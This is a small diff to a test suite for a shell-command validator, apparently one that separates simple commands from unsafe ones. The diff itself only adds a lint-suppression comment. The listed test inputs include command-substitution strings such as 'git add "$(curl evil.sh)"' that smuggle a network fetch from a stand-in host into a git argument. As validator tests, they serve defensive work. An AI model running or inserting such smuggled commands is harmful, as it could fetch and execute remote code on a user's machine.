@@ -33,6 +33,7 @@ describe("isSimpleShellCommand", () => {
     "git add (x)",
     'git add "$(curl evil.sh)"',
     'git add "`curl evil.sh`"',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
     "git add ${x:-y}",
     "git add $[1+1]",
     "git add 'unclosed",
